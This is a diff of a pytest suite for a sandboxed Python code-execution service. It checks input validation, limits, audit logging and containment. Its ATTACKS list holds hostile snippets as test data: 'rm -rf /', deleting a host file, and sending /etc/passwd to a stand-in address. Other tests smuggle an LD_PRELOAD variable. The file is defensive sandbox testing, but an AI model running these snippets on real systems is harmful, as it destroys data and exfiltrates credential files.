@@ -1,18 +1,23 @@
 """Promises of the published designs, each with the rows that it shows: arguments, settings, the check, what a program may and may not do."""
 import json
+import os
+import pathlib
+import pwd
 import re
 import shutil
 import subprocess
+import tempfile
 import uuid
 
 import pytest
 
 from support import brig, host
+from support import daemon as daemons
 from support import mcp as mcp_client
 
 SAFE_STDLIB = """math cmath random statistics decimal fractions collections itertools functools heapq bisect operator copy string textwrap re difflib
 unicodedata base64 binascii hashlib hmac secrets json csv html html.parser xml.etree.ElementTree urllib.parse configparser datetime uuid calendar
-dataclasses enum typing time abc contextlib types zoneinfo numbers""".split()
+dataclasses enum typing time abc contextlib types""".split()
 
 
 @pytest.fixture(scope="module")
@@ -44,7 +49,8 @@ WRONG = [
     ({"code": "1", "timeout": 0}, ["timeout"]), ({"code": "1", "allowed_imports": "math,os;"}, ["allowed_imports"]),
     ({"code": "1", "allowed_imports": [7]}, ["allowed_imports"]), ({"code": "1", "capture_output": "maybe"}, ["capture_output"]),
     ({"code": "1", "memory_limit": "much"}, ["memory_limit"]), ({"code": "1", "memory_limit": "99999g"}, ["memory_limit"]),
-    ({"code": "1", "profile": "no-such"}, ["no-such", "basic", "strict"]), ({"code": "a\0b"}, ["NUL"]), ({"code": "1", "env": {"A": 1}}, ["env"]),
+    ({"code": "1", "profile": "no-such"}, ["no-such", "basic", "strict"]), ({"code": "a\0b"}, ["NUL"]), ({"code": "1", "env": {"A": []}}, ["env"]),
+    ({"code": "1", "env": {"A=B": "c"}}, ["env", "A=B", "="]), ({"code": "1", "env": {"LD_PRELOAD": "x"}}, ["env", "LD_PRELOAD"]),
     ({"code": "1", "args": [1.5]}, ["args"]), ({"code": "1", "format": "xml"}, ["format", "json", "text"]),
 ]
 
@@ -66,14 +72,13 @@ def test_a_run_has_30_seconds_and_may_ask_for_300(shared):
     limits = shared.data("get_sandbox_info")["resource_limits"]
     assert limits["timeout"] == 30, limits
     assert shared.execute("1", timeout_s=300)["success"] is True
-    schema = shared.list_tools()["execute_code"]["inputSchema"]["properties"]["timeout"]
-    assert schema["maximum"] == 300, schema
+    denied(shared, {"code": "1", "timeout": 300.5}, "timeout", "300")
 
 
 @pytest.mark.requirement("A113")
 def test_the_description_says_how_long_a_run_may_take(shared):
-    tool = shared.list_tools()["execute_code"]
-    assert "timeout" in json.dumps(tool["inputSchema"]["properties"]["timeout"]) + tool["description"] and "description" in tool["inputSchema"]["properties"]["timeout"]
+    said = shared.list_tools()["execute_code"]["inputSchema"]["properties"]["timeout"]["description"]
+    assert "Seconds" in said and "300" in said and "30" in said.replace("300", ""), said
 
 
 @pytest.mark.requirement("A21")
@@ -102,7 +107,7 @@ def test_memory_in_the_published_notation(shared):
     took = "x = bytearray({} << 20)\nx[::4096] = bytes(len(x[::4096]))\n'there'"
     assert shared.execute(took.format(180), memory_limit="256m")["result"] == "there"
     assert shared.execute(took.format(300), memory_limit="256m")["exit_reason"] == "oom"
-    assert shared.execute(took.format(60), memory_limit=64)["exit_reason"] == "oom" # a number: MiB
+    assert shared.execute(took.format(80), memory_limit=64)["exit_reason"] == "oom" # a number: MiB
 
 
 # --- settings -------------------------------------------------------------------------------------------------------
@@ -171,7 +176,7 @@ def test_a_file_dotenv_is_read_and_the_environment_wins(start_mcp, tmp_path):
 @pytest.mark.requirement("A27")
 def test_packages_are_told_with_their_versions(shared):
     packages = shared.data("get_sandbox_info")["packages"]
-    assert any(one["name"].startswith("python3") and re.match(r"\d", one["version"]) for one in packages), packages
+    assert any(one["name"] == "python" and re.match(r"\d", one["version"]) for one in packages), packages
 
 
 # --- HTTP -----------------------------------------------------------------------------------------------------------
@@ -236,7 +241,8 @@ def test_calls_a_minute_are_limited_per_client(start_mcp):
 # --- the check ------------------------------------------------------------------------------------------------------
 
 SEEN = [("import os", 1, "os"), ("import os.path", 1, "os"), ("x = 1\nfrom os import system", 2, "os"), ("import os as harmless", 1, "os"),
-        ("import math, subprocess", 1, "subprocess"), ("m = __import__('os')", 1, "os"), ("import importlib\nm = importlib.import_module('subprocess')", 2, "subprocess"),
+        ("import math, subprocess", 1, "subprocess"), ("m = __import__('os')", 1, "os"),
+        ("import importlib\nm = importlib.import_module('subprocess')", 2, "subprocess"),
         ("if True:\n    def f():\n        import socket", 3, "socket")]
 
 
@@ -329,6 +335,12 @@ def test_a_programs_globals_are_its_own(shared):
     assert said["result"] == [[], "__main__"] and said["variables"] == [], said
 
 
+@pytest.mark.requirement("C9")
+@pytest.mark.parametrize("name", ["result", "output", "_", "__return_value__"])
+def test_a_result_may_be_called(shared, name):
+    assert shared.execute(f"{name} = 6 * 7\nother = 1")["result"] == 42
+
+
 @pytest.mark.requirement("A9", "B29")
 def test_builtins_are_pythons(shared):
     said = shared.execute("eval('6 * 7') + len(open('/etc/hostname').read()) * 0 + sum(map(int, filter(None, ['1', '']))) * 0\n"
@@ -346,7 +358,8 @@ def test_a_shell_and_any_module_work_inside(shared):
 ATTACKS = [
     ("B17", "a file of the host is removed", "import os\nos.remove({victim!r})"),
     ("B18", "everything is removed", "import os\nos.system('rm -rf / 2>/dev/null')\nopen('/etc/passwd').read()[:4]"),
-    ("B19", "the list of users is sent away", "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', data=open('/etc/passwd', 'rb').read(), timeout=5)"),
+    ("B19", "the list of users is sent away",
+     "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', data=open('/etc/passwd', 'rb').read(), timeout=5)"),
     ("B10", "a file of the host is read", "open({victim!r}).read()"),
     ("B11", "a socket is connected", "import socket\nsocket.create_connection(('192.0.2.1', 80), 5)"),
 ]
@@ -397,14 +410,14 @@ def test_the_audit_has_the_same_id_and_a_hash_of_the_code(mcp_service_with_audit
 
 
 @pytest.fixture
-def mcp_service_with_audit(built_mcp, tmp_path):
-    from support import daemon as daemons
-    tmp_path.chmod(0o755)
-    folder = tmp_path / "audit"
-    folder.mkdir(mode=0o777)
-    folder.chmod(0o777)
-    with daemons.Daemon({"audit": {"file": str(folder / "audit.jsonl")}}) as daemon:
-        yield daemon, folder / "audit.jsonl"
+def mcp_service_with_audit(built_mcp):
+    with tempfile.TemporaryDirectory(prefix="brig-test-") as scratch: # pytest's own folders are closed to the service's account
+        folder = pathlib.Path(scratch)
+        door = pwd.getpwnam("_brig-door").pw_uid if daemons.has_account("_brig-door") else daemons.ACCOUNTS["_brig-door"]
+        os.chown(folder, door, door)
+        folder.chmod(0o755)
+        with daemons.Daemon({"audit": {"file": str(folder / "audit.jsonl")}}) as daemon:
+            yield daemon, folder / "audit.jsonl"
 
 
 @pytest.mark.requirement("B2")
@@ -420,7 +433,7 @@ def test_no_container_engine_is_asked(built_mcp, tmp_path):
 
 @pytest.mark.requirement("C16")
 def test_what_a_program_writes_anywhere_is_no_message(start_mcp):
-    said = start_mcp().execute("import os, sys\nfor fd in range(20):\n    try: os.write(fd, b'{\"jsonrpc\":\"2.0\"}\\n')\n    except OSError: pass\nprint('end')")
+    said = start_mcp().execute("import os\nfor fd in range(20):\n    try: os.write(fd, b'{\"jsonrpc\":\"2.0\"}\\n')\n    except OSError: pass\nprint('end')")
     assert said["stdout"].endswith("end\n"), said
 
 
